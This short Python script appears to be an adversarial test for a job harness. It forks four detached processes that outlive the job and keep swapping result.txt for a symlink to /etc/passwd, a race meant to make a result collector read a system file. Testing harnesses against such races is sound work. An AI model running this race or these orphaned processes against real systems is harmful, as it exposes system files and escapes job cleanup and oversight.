"""Processes that outlive the job and swap a file for a link, over and over, while results are collected."""
import os
open('result.txt', 'w').write('good')
open('other.txt', 'w').write('good')
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        try:
            while True:
                name = f'.swap-{os.getpid()}'
                os.symlink('/etc/passwd', name)
                os.rename(name, 'result.txt')
                open(name, 'w').write('good')
                os.rename(name, 'result.txt')
        finally:
            os._exit(0)
print('held')
